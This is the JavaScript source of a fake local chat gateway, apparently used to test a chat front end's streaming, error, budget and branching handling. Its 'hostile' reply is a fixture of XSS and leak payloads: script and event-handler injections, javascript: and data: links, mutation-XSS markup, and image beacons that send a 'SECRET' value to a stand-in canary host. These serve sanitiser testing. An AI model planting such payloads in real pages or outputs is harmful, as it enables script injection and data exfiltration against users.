/**
 * A FAKE gateway, for looking at the page only: nothing here is stored, checked or secure, and no
 * model answers. Words in the message choose what happens: "break", "gap", "reset", "fail",
 * "refuse", "queue", "slow", "full" (budget used up), "hello" (short), "hostile" (attacks in the text),
 * "flood" (22 kB at the speed of a large server).
 */
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join, normalize } from "node:path";

const PAGES = process.env.PAGES ?? new URL("../../src/tertulia/gateway/pages", import.meta.url).pathname;
const PORT = Number(process.env.PORT ?? 8765);
const POLICY =
  "default-src 'self'; img-src 'self' data:; style-src 'self'; frame-ancestors 'none'; base-uri 'none'; " +
  "form-action 'self'; require-trusted-types-for 'script'";

const conversations = new Map();
const messages = new Map();
const byKey = new Map();
const logs = new Map();
const shown = new Map();
const keys = [];
let signedIn = process.env.SIGNED_IN === "1";
let download = 0.21;
let counter = 0;
const made = (prefix) => `${prefix}_${String(++counter).padStart(6, "0")}`;
const now = () => new Date().toISOString();

const ANSWER = `Decode is **memory-bound** because each new token has to read *every* weight once, and does very little arithmetic with it.

## The short sum

For a model of 8 billion parameters in 16 bits the weights are 16 GB. At 3.35 TB/s of memory bandwidth, one step takes at least:

$$t = \\frac{16\\,\\text{GB}}{3.35\\,\\text{TB/s}} \\approx 4.8\\,\\text{ms}$$

| batch | tokens/s | bound by |
|:------|---------:|:--------:|
| 1 | 209 | memory |
| 32 | 6,100 | memory |
| 512 | 48,000 | compute |

In code, with \`batch\` as the only thing that changes:

\`\`\`python
def step_seconds(batch: int, weights: float = 16e9, bandwidth: float = 3.35e12) -> float:
    """The time of one decode step: the slower of reading and computing."""
    reading = weights / bandwidth
    computing = 2 * batch * 8e9 / 989e12  # two operations for each weight
    return max(reading, computing)
\`\`\`

1. Reading costs the same for one sequence or for many.
2. So **batching** is nearly free until compute becomes the limit.
   - That is also why $1.50 or $3 a million tokens can be enough.

> A larger batch shares one read among more people.

See [the roofline model](https://en.wikipedia.org/wiki/Roofline_model) and ![a chart](https://h.example/p.png?leak=1). Raw HTML stays text: <img src=x onerror=alert(1)>.`;

const HOSTILE = `Text <script>globalThis.broken=1</script> <img src=https://canary.example/1 onerror="globalThis.broken=2"> <svg onload="globalThis.broken=3"></svg>

![pixel](https://canary.example/2?q=SECRET) ![][ref] [run](javascript:globalThis.broken=4) [run2](JaVaScRiPt&colon;globalThis.broken=5) [data](data:text/html,<script>1</script>) <javascript:globalThis.broken=6>

[ref]: https://canary.example/3

<meta http-equiv="refresh" content="0;url=https://canary.example/4"><base href="https://canary.example/"><form action="https://canary.example/5"><input></form>

\`\`\`"><img src=x onerror=globalThis.broken=7>
<video poster=https://canary.example/6></video>
\`\`\`

<math><mtext><table><mglyph><style><img src=x onerror=globalThis.broken=8></style></mglyph></table></mtext></math>

$$\\href{javascript:globalThis.broken=9}{x} \\htmlStyle{background:url(https://canary.example/7)}{y} \\includegraphics{https://canary.example/8}$$

Prices: $1.50 and $3, \\(a^2\\) is maths, \\(\\frac{1\\) is none. \u202Eright to left\u202C end.`;
const FLOOD = Array.from({ length: 22 }, (_, i) => `${ANSWER}\n\nPart ${i}.\n\n`).join("").slice(0, 22_000);

seed();

createServer((request, response) => {
  void answer(request, response).catch((error) => {
    console.error(error);
    response.destroy();
  });
}).listen(PORT, "127.0.0.1", () => console.log(`fake gateway on http://127.0.0.1:${PORT}`));

async function answer(request, response) {
  const url = new URL(request.url, "http://x");
  const path = url.pathname;
  if (!path.startsWith("/v1/")) return page(path, response);
  const body = await bodyOf(request);
  const json = (status, value, headers = {}) => {
    response.writeHead(status, { "Content-Type": status >= 400 ? "application/problem+json" : "application/json", ...headers });
    response.end(value === undefined ? "" : JSON.stringify(value));
  };
  const problem = (status, code, detail, more = {}) => json(status, { type: "about:blank", title: code, status, code, detail, ...more });
  const route = `${request.method} ${path.replace(/\/(c|m|key)_[^/]+/g, "/:id")}`;
  const id = /\/((?:c|m|key)_[^/]+)/.exec(path)?.[1];

  if (path.startsWith("/v1/auth/")) {
    if (body?.password === "wrong" || body?.token === "old") return problem(401, "unauthenticated", "Wrong name or password.");
    signedIn = !path.endsWith("logout");
    return signedIn ? json(200, me()) : json(204);
  }
  if (!signedIn) return problem(401, "unauthenticated", "Sign in first.");

  switch (route) {
    case "GET /v1/me": return json(200, me());
    case "GET /v1/models": {
      download = Math.min(1, download + 0.02);
      const large = download >= 1 ? { state: "ready" } : { state: "fetching", done_bytes: download * 4.9e9, total_bytes: 4.9e9 };
      return json(200, { object: "list", data: [
        { id: "small", object: "model", created: 0, owned_by: "tertulia", status: { state: "ready" } },
        { id: "large", object: "model", created: 0, owned_by: "tertulia", status: large }] });
    }
    case "GET /v1/api-keys": return json(200, { items: keys });
    case "POST /v1/api-keys": {
      const key = { id: made("key"), name: body.name, prefix: "tk_7f3a", createdAt: now(), lastUsedAt: null };
      keys.push(key);
      return json(201, { ...key, secret: "tk_7f3a-this-is-a-fake-secret-of-the-fake-server" });
    }
    case "DELETE /v1/api-keys/:id": keys.splice(keys.findIndex((one) => one.id === id), 1); return json(204);
    case "GET /v1/conversations": {
      const q = (url.searchParams.get("q") ?? "").toLowerCase();
      const all = [...conversations.values()].filter((one) => one.title?.toLowerCase().includes(q) ?? q === "").sort((a, b) => (a.updatedAt < b.updatedAt ? 1 : -1));
      const from = Number(url.searchParams.get("cursor") ?? 0);
      const limit = Number(url.searchParams.get("limit") ?? 20);
      return json(200, { items: all.slice(from, from + limit), nextCursor: from + limit < all.length ? String(from + limit) : null });
    }
    case "POST /v1/conversations": {
      const key = request.headers["idempotency-key"];
      if (byKey.has(key)) return json(201, byKey.get(key));
      const one = conversation("");
      byKey.set(key, one);
      return json(201, one);
    }
    case "GET /v1/conversations/:id": return conversations.has(id) ? json(200, conversations.get(id)) : problem(404, "not_found", "Not found.");
    case "PATCH /v1/conversations/:id": return json(200, Object.assign(conversations.get(id), body));
    case "DELETE /v1/conversations/:id": conversations.delete(id); return json(204);
    case "GET /v1/conversations/:id/messages": {
      const branch = url.searchParams.get("branch") ?? "head";
      const before = url.searchParams.get("before");
      const leaf = before !== null ? messages.get(before).parentId : branch === "head" ? conversations.get(id).headMessageId : leafBelow(branch);
      const limit = Number(url.searchParams.get("limit") ?? 50);
      const way = wayTo(leaf);
      const items = way.slice(-limit).map((one) => ({ ...one, version: versionOf(one) }));
      return json(200, { items, nextBefore: way.length > limit ? items[0].id : null });
    }
    case "PUT /v1/conversations/:id/head": {
      const one = conversations.get(id);
      one.headMessageId = leafBelow(body.messageId);
      shown.set(one.headMessageId, ++counter);
      return json(200, one);
    }
    case "POST /v1/conversations/:id/messages": {
      const key = request.headers["idempotency-key"];
      if (/\bfull\b/.test(body.content)) {
        return problem(429, "budget_exhausted", "Your tokens of a day are used up.", { retryAfterSeconds: 12_000, budget: "tokens_day" });
      }
      if (!byKey.has(key)) {
        const asked = message(id, body.parentId, "user", body.content, "completed");
        byKey.set(key, begin(id, asked, body, key));
      }
      if (/\bbreak\b/.test(body.content) && !logs.get(byKey.get(key).id).broke) {
        logs.get(byKey.get(key).id).broke = true;
        return request.socket.destroy(); // taken in, and the answer lost on the way
      }
      return stream(byKey.get(key).id, 0, request, response, body.content);
    }
    case "POST /v1/messages/:id/regenerate": {
      const key = request.headers["idempotency-key"];
      const old = messages.get(id);
      const asked = messages.get(old.parentId);
      if (!byKey.has(key)) byKey.set(key, begin(old.conversationId, asked, { ...body, content: asked.content }, key));
      return stream(byKey.get(key).id, 0, request, response, "");
    }
    case "GET /v1/messages/:id/stream": {
      const last = Number(request.headers["last-event-id"] ?? 0);
      const log = logs.get(id);
      if (log === undefined) return problem(404, "not_found", "Not found.");
      if (log.ended && last >= log.events.length) return json(204);
      if (last > log.events.length) return problem(409, "event_id_ahead", "Ahead.");
      return stream(id, last, request, response, messages.get(messages.get(id).parentId)?.content ?? "");
    }
    case "POST /v1/messages/:id/stop": {
      const one = messages.get(id);
      if (one === undefined) return problem(404, "not_found", "Not found.");
      const log = logs.get(id);
      if (log !== undefined && !log.ended) finish(one, log, "stopped", { finish: "stopped" });
      return json(200, one);
    }
    case "POST /v1/messages/:id/feedback": messages.get(id).feedback = body.rating; return json(200, messages.get(id));
  }
  return problem(404, "not_found", "Not found.");
}

function wayTo(leaf) {
  const way = [];
  for (let one = messages.get(leaf); one !== undefined; one = messages.get(one.parentId)) way.unshift(one);
  return way;
}

function childrenOf(one) {
  return [...messages.values()].filter((other) => other.parentId === one.id && other.conversationId === one.conversationId);
}

// Of the ends below a message the one that was shown last.
function leafBelow(id) {
  const ends = (one) => (childrenOf(one).length === 0 ? [one] : childrenOf(one).flatMap(ends));
  return ends(messages.get(id)).sort((a, b) => (shown.get(b.id) ?? 0) - (shown.get(a.id) ?? 0) || b.seq - a.seq)[0].id;
}

function versionOf(one) {
  const all = [...messages.values()].filter((other) => other.parentId === one.parentId && other.conversationId === one.conversationId);
  const at = all.indexOf(one);
  return { number: at + 1, count: all.length, previous: all[at - 1]?.id ?? null, following: all[at + 1]?.id ?? null };
}

function begin(conversationId, asked, body, key) {
  const text = body.content;
  const large = body.model === "large" && download < 1;
  const reply = message(conversationId, asked.id, "assistant", "", "running", key);
  Object.assign(reply, { model: large || body.model !== "large" ? "small" : "large", requested: body.model ?? "auto", reason: large ? "unavailable" : body.model === "auto" ? "auto" : "picked" });
  if (/\blong\b/.test(text)) reply.notices = ["context_shortened"];
  const log = { events: [], wakers: new Set(), ended: false, queue: /\bqueue\b/.test(text) ? 3 : 0, attempt: 1, resets: /\breset\b/.test(text) };
  logs.set(reply.id, log);
  conversations.get(conversationId).activeMessageId = reply.id;
  conversations.get(conversationId).headMessageId = reply.id;
  shown.set(reply.id, ++counter);
  const meta = () => ({ messageId: reply.id, userMessageId: asked.id, conversationId, model: reply.model, requested: reply.requested, reason: reply.reason, notices: reply.notices, attempt: log.attempt });
  const sentences = answerTo(text).match(/[^.\n]*[.\n]+|[^.\n]+$/g);
  const gap = /\bslow\b/.test(text) ? 900 : /\bflood\b/.test(text) ? 40 : 100;
  const tick = () => {
    if (log.ended) return;
    if (log.queue > 0) {
      log.queue--;
      wake(log);
      return setTimeout(tick, 900);
    }
    if (log.events.length === 0) push(log, "meta", meta());
    if (/\brefuse\b/.test(text)) {
      push(log, "refusal", { stage: "input", category: "self_harm", text: "I can't help with this. If you are in danger, please talk to someone you trust." });
      return finish(reply, log, "refused", { finish: "refused" });
    }
    if (/\bfail\b/.test(text) && log.events.length > 6) {
      push(log, "fail", { code: "replica_lost", message: "The machine that was answering went away.", retryable: true });
      return finish(reply, log, "failed", null);
    }
    const next = sentences.shift();
    if (next === undefined) return finish(reply, log, "completed", { finish: "stop" });
    push(log, "delta", { text: next });
    reply.content += next;
    setTimeout(tick, gap);
  };
  setTimeout(tick, 400);
  return reply;
}

function answerTo(text) {
  if (/\bhostile\b/.test(text)) return HOSTILE;
  if (/\bflood\b/.test(text)) return FLOOD;
  return /\bhello\b/i.test(text) ? "Hello! How are you today?" : ANSWER;
}

function finish(reply, log, status, done) {
  reply.status = status;
  if (status === "failed") reply.error = { code: "replica_lost", message: "The machine that was answering went away.", retryable: true };
  if (done !== null) push(log, "done", { ...done, usage: { input: 120, cached: 60, output: 300 }, charged: 360 });
  log.ended = true;
  wake(log);
  const one = conversations.get(reply.conversationId);
  if (one === undefined) return;
  one.activeMessageId = null;
  one.updatedAt = now();
  if (!one.title) setTimeout(() => (one.title = messages.get(reply.parentId).content.slice(0, 40)), 1_000);
}

function stream(id, from, request, response, text) {
  const log = logs.get(id);
  response.writeHead(200, { Location: `/v1/messages/${id}/stream`, "Content-Type": "text/event-stream; charset=utf-8", "Cache-Control": "no-store", "X-Accel-Buffering": "no" });
  response.write("retry: 1000\n\n");
  let sent = from;
  let place = -1;
  const flow = () => {
    if (log.queue > 0 && log.queue !== place) {
      place = log.queue;
      response.write(`event: queue\ndata: ${JSON.stringify({ position: place, estimatedWaitSeconds: place * 4 })}\n\n`);
    }
    while (sent < log.events.length) {
      const event = log.events[sent++];
      if (/\bgap\b/.test(text) && from === 0 && sent === 5) continue;
      const breaks = /\bbreak\b/.test(text) && sent % 6 === 0 && sent > from + 1;
      // Not before what was written has left: a line that never brings anything would never end.
      response.write(
        `id: ${sent}\nevent: ${event.name}\ndata: ${JSON.stringify(event.data)}\n\n`,
        breaks ? () => request.socket.destroy() : undefined,
      );
      if (breaks) return;
      if (log.resets && sent === 7) {
        log.resets = false;
        sent = 0;
        response.write("event: reset\ndata: {\"reason\":\"buffer_lost\"}\n\n");
      }
    }
    if (log.ended) response.end();
  };
  log.wakers.add(flow);
  request.on("close", () => log.wakers.delete(flow));
  flow();
}

function push(log, name, data) {
  log.events.push({ name, data });
  wake(log);
}

function wake(log) {
  for (const flow of [...log.wakers]) flow();
}

function me() {
  return {
    id: "u_1", name: "Marisol", role: "user", plan: "plus",
    budgets: [
      { name: "units_3h", unit: "units", limit: 25_000, remaining: 9_120, resetAt: new Date(Date.now() + 114 * 60_000).toISOString() },
      { name: "tokens_minute", unit: "tokens", limit: 30_000, remaining: 30_000, resetAt: null },
      { name: "tokens_day", unit: "tokens", limit: 200_000, remaining: 148_210, resetAt: new Date(Date.now() + 6 * 3_600_000).toISOString() },
      { name: "prompt_hour", unit: "prompt_tokens", limit: 100_000, remaining: 100_000, resetAt: null },
      { name: "turns_minute", unit: "turns", limit: 20, remaining: 19, resetAt: new Date(Date.now() + 3_000).toISOString() },
      { name: "replies_running", unit: "replies", limit: 2, remaining: 1, resetAt: null }],
    running: [], limits: { messageTokens: 8_000, messageBytes: 32_000 },
  };
}

function conversation(title, ageHours = 0) {
  const at = new Date(Date.now() - ageHours * 3_600_000).toISOString();
  const one = { id: made("c"), title, pinned: false, archived: false, createdAt: at, updatedAt: at, activeMessageId: null, headMessageId: null };
  conversations.set(one.id, one);
  return one;
}

function message(conversationId, parentId, role, content, status, id = made("m")) {
  const one = {
    id, conversationId, parentId: parentId ?? null, seq: ++counter, role, content, tokens: 10, model: null, requested: null, reason: null,
    status, finish: status === "completed" ? "stop" : null, notices: [], feedback: null, createdAt: now(), error: null, lastEventId: 0,
  };
  messages.set(id, one);
  return one;
}

function seed() {
  const titles = ["Why is decode memory-bound?", "A week in Asturias", "Letter to the landlord", "Regex for dates, and why not", "Sourdough without a scale",
    "Names for a grey cat", "The causes of the thirty years' war", "SQL window functions", "مرحبا، كيف تعمل المضخة الحرارية؟", "A very long title that goes on and on until it does not fit"];
  for (let i = 0; i < 60; i++) {
    const one = conversation(i < 10 ? titles[i] : `Conversation number ${i}`, i < 3 ? i : i * 9);
    if (i === 1) one.pinned = true;
    let parent = null;
    for (let turn = 0; turn < (i === 7 ? 45 : 1); turn++) {
      const asked = message(one.id, parent, "user", i === 0 ? "Why is decode memory-bound? Please with numbers." : `Tell me about it (${turn + 1}).`, "completed");
      const reply = message(one.id, asked.id, "assistant", i === 0 ? ANSWER : `Here is answer **${turn + 1}**.\n\n- one\n- two`, "completed");
      Object.assign(reply, { model: "small", requested: i === 0 ? "large" : "auto", reason: i === 0 ? "unavailable" : "auto", notices: i === 0 ? ["context_shortened"] : [] });
      parent = reply.id;
    }
    one.headMessageId = parent;
  }
}

async function bodyOf(request) {
  let text = "";
  for await (const chunk of request) text += chunk;
  return text === "" ? null : JSON.parse(text);
}

async function page(path, response) {
  const name = path === "/" || path.startsWith("/c/") || path.startsWith("/s/") ? "index.html" : normalize(path);
  const types = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };
  try {
    const bytes = await readFile(join(PAGES, name));
    response.writeHead(200, { "Content-Type": types[extname(name)] ?? "application/octet-stream", "Content-Security-Policy": POLICY, "X-Content-Type-Options": "nosniff" });
    response.end(bytes);
  } catch {
    response.writeHead(404);
    response.end();
  }
}
